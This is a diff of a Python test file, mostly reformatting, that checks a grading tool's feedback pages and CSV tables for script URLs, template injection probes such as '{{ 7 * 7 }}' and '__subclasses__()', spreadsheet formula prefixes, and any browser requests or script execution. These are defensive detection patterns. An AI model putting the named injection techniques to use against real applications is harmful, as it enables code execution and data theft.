-            assert (attributes.get("src") or "data:").startswith("data:"), (page, attributes)
+                assert not re.match(
+                    r"[\x00-\x20]*(java|vb)?script:|data:(?!image/png;base64,)", value
+                ), (page, value)
+            assert (attributes.get("src") or "data:").startswith("data:"), (
+                page,
+                attributes,
+            )
 
 
 def test_templates_in_student_text_stay_text(graded):
     page = graded.page("a page that runs something")
-    assert "{{ 7 * 7 }}" in page and "__subclasses__()" in page and "&lt;class" not in page
+    assert (
+        page.count("{{ 7 * 7 }}") >= 2
+        and "subclasses" in page
+        and "&lt;class" not in page
+    )
     assert ">49<" not in page and " 49 " not in page
 
 
@@ -1700,22 +2133,48 @@ def test_tables_hold_no_formula(graded):
         with open(graded.out / name, newline="", encoding="utf-8-sig") as file:
             for row in csv.reader(file, strict=True):
                 for value in row:
-                    assert not re.match(r"[=+@\t\r]|-(?!\d)", value) and value.isprintable(), (name, value)
+                    assert (
+                        not re.match(r"[=+@\t\r]|-(?!\d)", value)
+                        and value.isprintable()
+                    ), (name, value)
 
 
 @pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine")
 def test_in_a_browser_no_script_runs_and_no_request_leaves(graded):
     playwright = pytest.importorskip("playwright.sync_api")
-    flags = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--disable-background-networking"]
-    hostile = [a.name for a in CLASS if "page" in a.name or "<" in a.name or "formula" in a.name]
-    names = {json.loads(p.read_bytes())["student"]: p.stem for p in (graded.out / "results").glob("*.json")}
-    pages = [graded.out / "feedback" / f"{names[name]}.html" for name in hostile] + [graded.out / "report.html"]
+    flags = [
+        "--no-sandbox",
+        "--disable-gpu",
+        "--disable-dev-shm-usage",
+        "--no-first-run",
+        "--disable-background-networking",
+    ]
+    hostile = [
+        a.name
+        for a in CLASS
+        if "page" in a.name or "<" in a.name or "formula" in a.name
+    ]
+    names = {
+        json.loads(p.read_bytes())["student"]: p.stem
+        for p in (graded.out / "results").glob("*.json")
+    }
+    pages = [graded.out / "feedback" / f"{names[name]}.html" for name in hostile] + [
+        graded.out / "report.html"
+    ]
     requests: list[str] = []
     with playwright.sync_playwright() as running:
-        browser = running.chromium.launch(executable_path=CHROMIUM, headless=True, args=flags)
+        browser = running.chromium.launch(
+            executable_path=CHROMIUM, headless=True, args=flags
+        )
         page = browser.new_page()
         page.on("request", lambda request: requests.append(request.url))
-        page.on("dialog", lambda dialog: (requests.append(f"dialog {dialog.message}"), dialog.dismiss()))
+        page.on(
+            "dialog",
+            lambda dialog: (
+                requests.append(f"dialog {dialog.message}"),
+                dialog.dismiss(),
+            ),
+        )
         for path in pages:
             requests.clear()
             page.goto(path.as_uri())
@@ -1724,6 +2183,15 @@ def test_in_a_browser_no_script_runs_and_no_request_leaves(graded):
                 if not address.startswith(("file:", "http")):
                     link.click(timeout=1000, no_wait_after=True)
             assert page.title() != "attacked"
-            assert [url for url in requests if not url.startswith(("file:", "data:image/png"))] == [], path
-            assert page.evaluate("document.querySelectorAll('script, iframe, svg, form, img[src^=http]').length") == 0
+            assert [
+                url
+                for url in requests
+                if not url.startswith(("file:", "data:image/png"))
+            ] == [], path
+            assert (
+                page.evaluate(
+                    "document.querySelectorAll('script, iframe, svg, form, img[src^=http]').length"
+                )
+                == 0
+            )
         browser.close()
